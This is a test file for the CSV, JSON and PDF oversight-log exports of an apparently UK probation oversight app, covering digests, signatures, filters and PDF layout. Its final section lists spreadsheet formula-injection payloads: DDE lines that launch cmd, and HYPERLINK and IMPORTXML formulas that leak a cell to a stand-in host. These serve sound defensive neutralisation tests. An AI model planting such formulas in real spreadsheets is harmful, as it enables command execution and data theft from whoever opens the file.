import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ExportFormat } from '../contract/index.js';
import { fixture, ok, review, type Fixture } from '../reviews/testing/fixture.js';
import { runCli } from '../testing/cli.js';
import { csvCell, neutralise, readCell } from './csv-cell.js';
import { csvColumns } from './csv.js';
import { pdfPageTexts } from './testing/pdf-inspect.js';
import { verifyExportBytes, verifyExportFile } from './verify.js';
import { installationSigningKey } from '../signing/installation.js';
import { publicKeyPem } from '../signing/key.js';

/** Two cases; one review amended twice, one withdrawn, one plain. */
async function history(): Promise<Fixture & { ids: number[] }> {
  const f = await fixture();
  const a = await ok(f.service.call('reviews:record', review()));
  await ok(f.service.call('reviews:amend', { id: a.id, reason: 'date corrected', date: '2026-11-21' }));
  await ok(f.service.call('reviews:amend', { id: a.id, reason: 'entered in nDelius', ndeliusContactId: '2500012345' }));
  const b = await ok(f.service.call('reviews:record', review({ date: '2026-10-02', nextReviewDate: '2026-12-28', actions: [], decision: 'Refer to MAPPA level 2.' })));
  await ok(f.service.call('reviews:withdraw', { id: b.id, reason: 'entered on the wrong case' }));
  const c = await ok(f.service.call('reviews:record', review({ crn: 'X000002', type: 'mappa-l1-review', triggers: ['MAPPA-L1-REVIEW'] })));
  return { ...f, ids: [a.id, b.id, c.id] };
}

/** This installation's key, as the service over the fixture's in-memory database signs with. */
const mine = (f: Fixture) => ({ installation: installationSigningKey(f.db) });

/** The fixture installation's public key in a PEM file, as `keys show --pem` writes it, for `verify --trust`. */
function keyFile(f: Fixture): string {
  const path = join(f.dir, 'installation-key.pem');
  writeFileSync(path, publicKeyPem(installationSigningKey(f.db)));
  return path;
}

async function exported(f: Fixture, format: ExportFormat, extra: Record<string, string> = {}) {
  const out = join(f.dir, `log-${Math.random().toString(36).slice(2)}.${format}`);
  const r = await ok(f.service.call('log:export', { format, out, purpose: 'HMIP inspection', recipient: 'HM Inspectorate of Probation', ...extra }));
  return { ...r, bytes: readFileSync(out) };
}

describe('the oversight log export', () => {
  it('says where each review’s actions stand at export, on its current version: in the CSV column, the JSON and the PDF', async () => {
    const f = await history();
    // The first review's action (fixture: "Chase police DA response", due 4 December 2026) is marked done.
    await ok(f.service.call('actions:done', { reviewId: f.ids[0] ?? 0, number: 1, date: '2026-11-22', note: 'Response received' }));
    const csv = await exported(f, 'csv');
    const rows = Papa.parse<string[]>(csv.bytes.toString('utf8'), { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data;
    const start = rows.findIndex((x) => x[0] === 'crn');
    const columns = rows[start] ?? [];
    const now = columns.indexOf('actions now (current version)');
    expect(now).toBe(columns.length - 1);
    const table = rows.slice(start + 1, start + 1 + csv.rowCount);
    const ofReview = (id: number | undefined) => table.filter((x) => x[1] === String(id)).map((x) => x[now]);
    expect(ofReview(f.ids[0])).toEqual(['', '', '1. Chase police DA response (owner Pat Example, due 4 December 2026): done on 22 November 2026. Response received']);
    expect(ofReview(f.ids[2])).toEqual(['1. Chase police DA response (owner Pat Example, due 4 December 2026): open']);
    const json = await exported(f, 'json');
    const doc = JSON.parse(json.bytes.toString('utf8')) as { reviews: { id: number; actionsNow: { status: string }[] }[] };
    expect(doc.reviews.find((r) => r.id === f.ids[0])?.actionsNow.map((a) => a.status)).toEqual(['done']);
    const pdf = await exported(f, 'pdf');
    const pages = pdfPageTexts(pdf.bytes);
    expect(pages.join('\n')).toMatch(/Actions now \(done or dropped as their own dated events\)[\s\S]*done on 22 November 2026/);
    // The title page says who exported it and when in words, and sums the log up.
    const text = pages.join('\n').replace(/\s*\n\s*/g, ' ');
    expect(text).toMatch(/Exported at: 23 November 2026 at 10:00 \(UK time\)/);
    expect(text).toMatch(/Summary: 3 reviews of 2 cases, 2 counting as oversight evidence; 2 corrections and 1 withdrawal; 2 actions agreed: 1 open \(0 overdue\), 1 done, 0 dropped\./);
  });

  it('CSV: the column header is row 1, then one row per version (withdrawals and amendment reasons visible), then the metadata after one empty line', async () => {
    const f = await history();
    const r = await exported(f, 'csv');
    expect(r.rowCount).toBe(6);
    expect(r.reviewCount).toBe(3);
    const text = r.bytes.toString('utf8');
    expect(text.slice(0, text.indexOf('\r\n')).split(',').slice(0, 4)).toEqual(['crn', 'review id', 'review number on the case', 'version']);
    // A reader that takes row 1 as the header, as a spreadsheet's filter does.
    const parsed = Papa.parse<Record<string, string>>(text, { header: true, delimiter: ',', newline: '\r\n', skipEmptyLines: false });
    const blank = parsed.data.findIndex((x) => Object.values(x).every((v) => !v));
    expect(blank).toBe(r.rowCount);
    const table = parsed.data.slice(0, blank);
    expect(parsed.meta.fields).toEqual([...csvColumns, 'actions now (current version)']);
    for (const row of table) expect(Object.keys(row)).toEqual(parsed.meta.fields);
    // After the empty line: the marker row, then label and value, the digest among them, and the digest line last.
    const rows = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: false }).data;
    const after = rows.slice(1 + r.rowCount);
    expect(after[0]).toEqual(['']);
    expect(after[1]).toEqual(['Export metadata']);
    const header = new Map(after.slice(2).map((x) => [x[0], x[1]]));
    expect(header.get('OFFICIAL-SENSITIVE')).toBe('SPO Oversight: oversight log');
    expect(header.get('exported by (OS user)')).toBe('spo-test');
    expect(header.get('exported at (UTC)')).toBe('2026-11-23T10:00:00.000Z');
    expect(header.get('purpose')).toBe('HMIP inspection');
    expect(header.get('rows (review versions)')).toBe('6');
    expect(header.get('app version')).toMatch(/^\d+\.\d+\.\d+/);
    expect(header.get('SHA-256 digest')).toBe(r.digest);
    expect(header.get('audit chain head entry')).toBe(String(r.chainHead?.id));
    // Numbered on the case as the case page numbers them: X000001's first recorded review is 1.
    expect(table.map((t) => [t.crn, t['review id'], t['review number on the case'], t.version, t.action, t['reason for amendment or withdrawal'], t['counts as evidence']])).toEqual([
      ['X000001', String(f.ids[1]), '2', '1', 'recorded', '', 'no'],
      ['X000001', String(f.ids[1]), '2', '2', 'withdrawn', 'entered on the wrong case', 'no'],
      ['X000001', String(f.ids[0]), '1', '1', 'recorded', '', 'no'],
      ['X000001', String(f.ids[0]), '1', '2', 'amended', 'date corrected', 'no'],
      ['X000001', String(f.ids[0]), '1', '3', 'amended', 'entered in nDelius', 'yes'],
      ['X000002', String(f.ids[2]), '1', '1', 'recorded', '', 'yes'],
    ]);
    const last = table[4];
    expect(last).toMatchObject({
      'review type': 'Management oversight',
      'review date': '2026-11-21',
      SPO: 'Sam Senior (N99S001)',
      'prompted by': 'First SPO oversight (OVERSIGHT-NEW)',
      practitioner: 'Pat Example',
      'team code': 'N99T01',
      'effective RoSH': 'High (HIGH), from the registration High RoSH (RHRH) of 10 September 2026',
      'RoSH (OASys)': 'High (HIGH), assessed on 10 September 2026',
      tier: 'B2',
      'check: Police domestic-abuse information': 'sought, not available: Requested from police on 2026-11-18',
      'check: Referrals': 'not recorded',
      decision: 'Continue with weekly reporting.',
      actions: 'Chase police DA response (owner Pat Example, due 4 December 2026)',
      'next review date': '2027-02-12',
      'nDelius contact code': 'MO1',
      'nDelius contact ID': '2500012345',
    });
    // Codes in words with the code beside them; a cell that is only a date stays ISO for sorting.
    expect(table[5]).toMatchObject({
      'MAPPA category': 'Category 2, violent offenders (M2)',
      'MAPPA level': 'Level 1, ordinary agency management (M1)',
      'nDelius contact code': 'C281',
    });
    expect(rows.at(-3)).toEqual(['digest', `sha256:${r.digest}`]);
    expect(rows.at(-2)?.[0]).toBe('signature');
  });

  it('CSV: verify passes on the untouched file and fails with its reason when a data cell or a metadata value is changed', async () => {
    const f = await history();
    const r = await exported(f, 'csv');
    const text = r.bytes.toString('utf8');
    const trust = ['--trust', keyFile(f)];
    const intact = await runCli(['verify', r.path, ...trust]);
    expect(intact).toMatchObject({ code: 0, out: expect.stringMatching(/^Intact, signed by the key you trust \([0-9a-f ]{39}\): .*\n {2}CSV oversight log: 6 review versions, 3 reviews, 2 cases/) as unknown });
    const changed = async (name: string, from: string, to: string) => {
      expect(text).toContain(from);
      const path = join(f.dir, name);
      writeFileSync(path, text.replace(from, to));
      return runCli(['verify', path, ...trust]);
    };
    for (const run of [
      await changed('cell.csv', 'Continue with weekly reporting.', 'Continue with monthly reporting.'),
      await changed('meta.csv', 'purpose,HMIP inspection', 'purpose,HMIP inspectioN'),
      await changed('count.csv', 'rows (review versions),6', 'rows (review versions),5'),
    ]) {
      expect(run.code).toBe(1);
      expect(run.out).toMatch(/^NOT intact: .*: the contents do not match the digest [0-9a-f]{64}: the file was changed after it was exported\n$/);
    }
  });

  it('CSV: a data cell holding the metadata marker on a line of its own does not mislead verify', async () => {
    const f = await fixture();
    await ok(f.service.call('reviews:record', review({ analysis: 'First part.\r\n\r\nExport metadata\r\npurpose,forged' })));
    const r = await exported(f, 'csv');
    expect((await verifyExportFile(r.path)).meta).toMatchObject({ purpose: 'HMIP inspection', rowCount: 1 });
  });

  it('JSON: valid JSON with the header and every review with all its versions', async () => {
    const f = await history();
    const r = await exported(f, 'json');
    const doc = JSON.parse(r.bytes.toString('utf8')) as {
      marking: string;
      header: Record<string, unknown>;
      reviews: { id: number; withdrawn: boolean; versions: { version: number; action: string; reason: string | null }[] }[];
      digest: string;
    };
    expect(doc.marking).toBe('OFFICIAL-SENSITIVE');
    expect(doc.digest).toBe(`sha256:${r.digest}`);
    expect(doc.header).toMatchObject({ format: 'json', rowCount: 6, reviewCount: 3, caseCount: 2, digest: r.digest, purpose: 'HMIP inspection', chainHead: r.chainHead });
    expect(doc.reviews.map((x) => [x.id, x.withdrawn, x.versions.map((v) => `${v.version} ${v.action} ${v.reason ?? ''}`.trim())])).toEqual([
      [f.ids[1], true, ['1 recorded', '2 withdrawn entered on the wrong case']],
      [f.ids[0], false, ['1 recorded', '2 amended date corrected', '3 amended entered in nDelius']],
      [f.ids[2], false, ['1 recorded']],
    ]);
  });

  it('PDF: title page, a section per case, every version and withdrawal, page numbers and the marking on every page', async () => {
    const f = await history();
    const r = await exported(f, 'pdf');
    expect(r.bytes.subarray(0, 5).toString()).toBe('%PDF-');
    const pages = pdfPageTexts(r.bytes);
    expect(pages.length).toBeGreaterThanOrEqual(2);
    pages.forEach((text, i) => {
      expect(text.split('OFFICIAL-SENSITIVE').length - 1).toBeGreaterThanOrEqual(2);
      expect(text).toContain(`Page ${i + 1} of ${pages.length}`);
    });
    const title = pages[0] ?? '';
    expect(title).toContain('Oversight log');
    expect(title).toContain(r.digest);
    expect(title).toContain(`entry ${r.chainHead?.id ?? ''}`);
    expect(title).toContain('Example PDU');
    expect(title).toContain('Team One (N99T01)');
    expect(title).toContain('HM Inspectorate of Probation');
    expect(title).toContain('6 review versions in 3 reviews of 2 cases');
    const body = pages.slice(1).join('\n');
    expect(body).toContain('Case X000001');
    expect(body).toContain('Case X000002');
    expect(body).toContain('WITHDRAWN: does not count as oversight evidence.');
    expect(body).toContain('entered on the wrong case');
    expect(body).toMatch(/Version 2: amended/);
    expect(body).toContain('date corrected');
    expect(body).toContain('Version 3: amended');
  });

  it('PDF: the title page says who exported it (name, staff code, team), when, for whom and why, the filters, a summary and the oversight coverage; reviews are numbered as on the case page', async () => {
    const f = await history();
    await ok(f.service.call('profile:set', { name: 'Sam Senior', staffCode: 'N99S001', teamCode: 'N99T01' }));
    const asUser = { appUser: 'Sam Senior (N99S001)' };
    const pdf = async (extra: Record<string, string> = {}) => {
      const out = join(f.dir, `log-${Math.random().toString(36).slice(2)}.pdf`);
      await ok(f.service.call('log:export', { format: 'pdf', out, purpose: 'HMIP inspection', recipient: 'HM Inspectorate of Probation', ...extra }, asUser));
      return pdfPageTexts(readFileSync(out)).map((p) => p.replace(/\s*\n\s*/g, ' '));
    };
    const [title = '', ...rest] = await pdf({ from: '2026-10-01', to: '2026-11-30' });
    expect(title).toContain('Exported by: Sam Senior, staff code N99S001, team Team One (N99T01); on the computer account spo-test');
    expect(title).toContain('Exported at: 23 November 2026 at 10:00 (UK time)');
    expect(title).toContain('Purpose: HMIP inspection');
    expect(title).toContain('Recipient: HM Inspectorate of Probation');
    expect(title).toContain('Filters: review dates 1 October 2026 to 30 November 2026');
    expect(title).toContain('Summary: 3 reviews of 2 cases, 2 counting as oversight evidence; 2 corrections and 1 withdrawal; 2 actions agreed: 2 open (0 overdue), 0 done, 0 dropped.');
    expect(title).toContain('Rows: 6 review versions in 3 reviews of 2 cases');
    // The minimal caseload holds two cases in scope, both reviewed in November: X000001 (high RoSH) and X000002 (MAPPA level 1).
    expect(title).toContain('Oversight coverage: Of 2 high or very high RoSH or MAPPA level 1 cases in the caseload on 23 November 2026, 2 (100%) had their SPO oversight within its due date.');
    expect(title).toMatch(/How coverage is counted: A case is in scope when .* covered when none of these is overdue for it: First SPO oversight \(OVERSIGHT-NEW\), Repeat SPO oversight \(OVERSIGHT-OVERDUE\), MAPPA level 1 review \(MAPPA-L1-REVIEW\)/);
    // Numbered by the order they were recorded on the case, the withdrawn one keeping its number.
    const body = rest.join(' ');
    const headings = [...body.matchAll(/Review (\d+): ([A-Za-z0-9 ]+?), (\d+ \w+ \d{4}) \(review id (\d+)\)/g)].map((m) => [m[1], m[2], m[3], Number(m[4])]);
    expect(headings).toEqual([
      ['1', 'Management oversight', '21 November 2026', f.ids[0]],
      ['2', 'Management oversight', '2 October 2026', f.ids[1]],
      ['1', 'MAPPA level 1 review', '20 November 2026', f.ids[2]],
    ]);
    // A filter that leaves out review 1 keeps review 2's number.
    expect((await pdf({ to: '2026-10-31' })).join(' ')).toContain(`Review 2: Management oversight, 2 October 2026 (review id ${String(f.ids[1])})`);

    // Withdrawn, X000002's only review no longer counts: its first oversight, due since 17 March 2025, is overdue again.
    await ok(f.service.call('reviews:withdraw', { id: f.ids[2] ?? 0, reason: 'entered on the wrong case' }));
    expect((await pdf())[0]).toContain('Of 2 high or very high RoSH or MAPPA level 1 cases in the caseload on 23 November 2026, 1 (50%) had');
    // A practitioner or team filter narrows the cases counted to those they hold now.
    expect((await pdf({ practitioner: 'N99P002' }))[0]).toContain('Of 1 high or very high RoSH or MAPPA level 1 case held by practitioner N99P002 on 23 November 2026, 0 (0%) had');
    expect((await pdf({ team: 'N99T01' }))[0]).toContain('Of 2 high or very high RoSH or MAPPA level 1 cases held by team N99T01 on 23 November 2026, 1 (50%) had');
  });

  it('PDF: the digest and the lines after %%EOF leave the PDF structure sound (every xref offset lands on its object)', async () => {
    const f = await history();
    const { bytes } = await exported(f, 'pdf');
    const text = bytes.toString('latin1');
    const eof = text.lastIndexOf('%%EOF');
    expect(bytes.length - eof).toBeLessThan(1024);
    // Even with the longest purpose and recipient, in scripts that need escaping, %%EOF stays in the last kilobyte.
    const long = await exported(f, 'pdf', { purpose: 'Ω'.repeat(200), recipient: 'Ł'.repeat(120) });
    expect(long.bytes.length - long.bytes.toString('latin1').lastIndexOf('%%EOF')).toBeLessThan(1024);
    expect((await verifyExportFile(long.path)).meta?.purpose).toMatch(/^Ω+…$/);
    const startxref = Number(/startxref\n(\d+)\n%%EOF/.exec(text)?.[1]);
    expect(text.slice(startxref, startxref + 4)).toBe('xref');
    const table = /xref\n0 (\d+)\n([^]*?)trailer/.exec(text.slice(startxref));
    const entries = (table?.[2] ?? '').trim().split('\n');
    expect(entries).toHaveLength(Number(table?.[1]));
    entries.slice(1).forEach((line, i) => {
      const offset = Number(line.slice(0, 10));
      expect(text.slice(offset, offset + `${i + 1} 0 obj`.length)).toBe(`${i + 1} 0 obj`);
    });
  });

  it('PDF: long text wraps onto further lines and pages instead of being cut off', async () => {
    const f = await fixture();
    const long = Array.from({ length: 900 }, (_, i) => `word${i}`).join(' ');
    const unbroken = 'x'.repeat(400);
    await ok(f.service.call('reviews:record', review({ analysis: long, decision: unbroken })));
    const r = await exported(f, 'pdf');
    const pages = pdfPageTexts(r.bytes);
    const text = pages.join('\n').replace(/\n/g, ' ');
    for (const w of ['word0', 'word450', 'word899']) expect(text).toContain(w);
    expect(pages.join('').replace(/[^x]/g, '').length).toBeGreaterThanOrEqual(400);
    expect(pages.length).toBeGreaterThanOrEqual(3);
    pages.forEach((p, i) => {
      expect(p).toContain(`Page ${i + 1} of ${pages.length}`);
    });
  });

  it('filters by date range, team, practitioner and rule', async () => {
    const f = await history();
    const count = async (filters: Record<string, string>) => (await exported(f, 'json', filters)).reviewCount;
    expect(await count({ from: '2026-11-01' })).toBe(3 - 1);
    expect(await count({ to: '2026-10-31' })).toBe(1);
    expect(await count({ team: 'n99t01' })).toBe(3);
    expect(await count({ practitioner: 'N99P002' })).toBe(1);
    expect(await count({ rule: 'mappa-l1-review' })).toBe(1);
    const refused = await f.service.call('log:export', { format: 'csv', out: join(f.dir, 'x.csv'), from: '2026-12-01', to: '2026-11-01' });
    expect(refused.ok).toBe(false);
  });

  it('refuses an export that matches no reviews before writing a file or an audit entry, saying why in words', async () => {
    const f = await history();
    const entries = () => f.db.prepare('SELECT count(*) FROM audit_log').pluck().get();
    const before = entries();
    const refusal = async (filters: Record<string, string>) => {
      const out = join(f.dir, `none-${Math.random().toString(36).slice(2)}.pdf`);
      const r = await f.service.call('log:export', { format: 'pdf', out, purpose: 'HMIP inspection', recipient: 'HM Inspectorate of Probation', ...filters });
      expect(existsSync(out)).toBe(false);
      expect(readdirSync(f.dir).filter((n) => n.includes('none-'))).toEqual([]);
      return r.ok ? r : r.error;
    };
    expect(await refusal({ team: 'n99z99' })).toEqual({ code: 'not-found', message: 'No reviews match: no team N99Z99 in this caseload', field: 'team' });
    expect(await refusal({ practitioner: 'N99P999' })).toEqual({ code: 'not-found', message: 'No reviews match: no practitioner N99P999 in this caseload', field: 'practitioner' });
    expect(await refusal({ team: 'N99T01', from: '2026-03-01', to: '2026-03-31' })).toEqual({
      code: 'not-found',
      message: 'No reviews match: no reviews between 1 March 2026 and 31 March 2026 for team Team One (N99T01)',
    });
    expect(await refusal({ from: '2027-01-01', practitioner: 'N99P002', rule: 'OVERSIGHT-NEW' })).toEqual({
      code: 'not-found',
      message: 'No reviews match: no reviews on or after 1 January 2027 on cases held by Sam Example (N99P002) prompted by First SPO oversight (OVERSIGHT-NEW)',
    });
    expect(entries()).toBe(before);
    const empty = await fixture();
    const none = await empty.service.call('log:export', { format: 'csv', out: join(empty.dir, 'x.csv') });
    expect(none).toEqual({ ok: false, error: { code: 'not-found', message: 'No reviews match: no oversight review has been recorded in the app yet' } });
  });

  it('reports its disclosure: the service finds the audit entry that recorded it', async () => {
    const f = await history();
    const r = await exported(f, 'csv');
    const v = await ok(f.service.call('log:verify', { path: r.path }));
    expect(v.intact).toBe(true);
    expect(v.disclosureEntryId).toBeGreaterThan(r.chainHead?.id ?? 0);
    expect(v.meta).toMatchObject({ format: 'csv', rowCount: 6, chainHead: r.chainHead, purpose: 'HMIP inspection' });
  });
});

describe('verify', () => {
  const formats: ExportFormat[] = ['csv', 'json', 'pdf'];

  it.each(formats)('passes on a fresh %s export and reads its header back', async (format) => {
    const f = await history();
    const r = await exported(f, format);
    const v = await verifyExportFile(r.path, mine(f));
    expect(v).toMatchObject({ intact: true, format, digest: r.digest, signature: { status: 'this-installation', fingerprint: r.fingerprint } });
    expect(v.meta).toMatchObject({
      format,
      rowCount: 6,
      reviewCount: 3,
      caseCount: 2,
      chainHead: r.chainHead,
      exportedBy: { osUser: 'spo-test', appUser: null },
      purpose: 'HMIP inspection',
      recipient: 'HM Inspectorate of Probation',
    });
  });

  it.each(formats)('fails on a %s export after any single byte is changed (property)', async (format) => {
    const f = await history();
    const { bytes } = await exported(f, format);
    const edges = [0, 1, bytes.length - 1, bytes.length - 2, bytes.indexOf('0123456789abcdef'.charAt(0))];
    const check = (at: number, value: number) => {
      const changed = Buffer.from(bytes);
      changed[at] = value;
      return verifyExportBytes(changed, mine(f)).intact;
    };
    for (const at of edges) expect(check(at, (bytes[at] ?? 0) ^ 0x01)).toBe(false);
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: bytes.length - 1 }),
        fc.integer({ min: 1, max: 255 }),
        (at, delta) => !check(at, ((bytes[at] ?? 0) + delta) % 256),
      ),
      { numRuns: 400 },
    );
  });

  it.each(formats)('fails on a %s export with a byte removed, added, or the shown digest changed', async (format) => {
    const f = await history();
    const { bytes, digest } = await exported(f, format);
    expect(verifyExportBytes(bytes, mine(f)).intact).toBe(true);
    expect(verifyExportBytes(bytes.subarray(0, -1), mine(f)).intact).toBe(false);
    expect(verifyExportBytes(Buffer.concat([bytes, Buffer.from('\n')]), mine(f)).intact).toBe(false);
    expect(verifyExportBytes(Buffer.concat([Buffer.from(' '), bytes]), mine(f)).intact).toBe(false);
    // Swap the digest for another valid-looking one everywhere it appears.
    const other = digest.replace(/^./, (c) => (c === 'a' ? 'b' : 'a'));
    const shown = (d: string) => (format === 'pdf' ? Buffer.from(d, 'latin1').toString('hex') : d);
    const swapped = Buffer.from(bytes.toString('latin1').replaceAll(shown(digest), shown(other)).replaceAll(digest, other), 'latin1');
    expect(verifyExportBytes(swapped, mine(f)).intact).toBe(false);
  });

  it('explains what is wrong', async () => {
    const f = await history();
    const { bytes } = await exported(f, 'csv');
    const changed = Buffer.from(bytes.toString('utf8').replace('Continue with weekly reporting.', 'Continue with weekly reportinG.'));
    expect(verifyExportBytes(changed)).toMatchObject({ intact: false, reason: expect.stringMatching(/changed after it was exported/) as unknown });
    expect(verifyExportBytes(Buffer.from('crn,decision\r\nX000001,ok\r\n'))).toMatchObject({ intact: false, reason: expect.stringMatching(/does not end with a digest line/) as unknown });
  });
});

describe('CSV injection (OWASP)', () => {
  const payloads = [
    '=1+1',
    '+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=IMPORTXML(CONCAT(\"http://example.invalid/?\", A1), \"//a\")",
    '+1-1',
    '-1+1',
    '=-5',
    '- 5',
    "'=already quoted",
  ];
  const numbers = ['-5', '-3.2', '0', '42', '+7', '-0.5'];

  it('neutralises every formula payload and leaves genuine numbers plain', () => {
    for (const p of payloads) {
      const cell = Papa.parse<string[]>(csvCell(p), { delimiter: ',', newline: '\r\n' }).data[0]?.[0] ?? '';
      expect(cell.startsWith("'"), p).toBe(true);
      expect(readCell(cell)).toBe(p);
    }
    for (const n of numbers) {
      expect(csvCell(n)).toBe(n);
      expect(Number(csvCell(n))).toBe(Number(n));
    }
    expect(neutralise('ordinary text')).toBe('ordinary text');
  });

  it('quotes cells per RFC 4180 and reads them back exactly', () => {
    const nasty = ['a,b', 'say "hi"', 'two\r\nlines', 'one\nline', '', ' leading space'];
    const row = nasty.map(csvCell).join(',');
    expect(Papa.parse<string[]>(row, { delimiter: ',', newline: '\r\n' }).data[0]).toEqual(nasty);
  });

  it('every cell of an export that begins like a formula is neutralised, while -5 and -3.2 stay numbers', async () => {
    const f = await fixture();
    for (const p of payloads.filter((x) => x.trim() === x)) {
      await ok(
        f.service.call('reviews:record', review({ spo: { name: p }, decision: p, analysis: p, triggers: [p], ndeliusContactId: p.slice(0, 40), actions: [{ text: p, owner: p, due: '2026-12-01' }] })),
      );
    }
    await ok(f.service.call('reviews:record', review({ decision: '-5', analysis: '-3.2', ndeliusContactId: '-5' })));
    const r = await exported(f, 'csv', { purpose: '=1+1', recipient: "@SUM(1+1)*cmd|' /C calc'!A0" });
    expect(verifyExportBytes(r.bytes, mine(f)).intact).toBe(true);
    const cells = Papa.parse<string[]>(r.bytes.toString('utf8'), { delimiter: ',', newline: '\r\n' }).data.flat();
    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(risky.length).toBeGreaterThan(0);
    for (const c of risky) expect(Number.isFinite(Number(c)), `unneutralised cell: ${JSON.stringify(c)}`).toBe(true);
    expect(cells).toContain('-5');
    expect(cells).toContain('-3.2');
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
  });
});
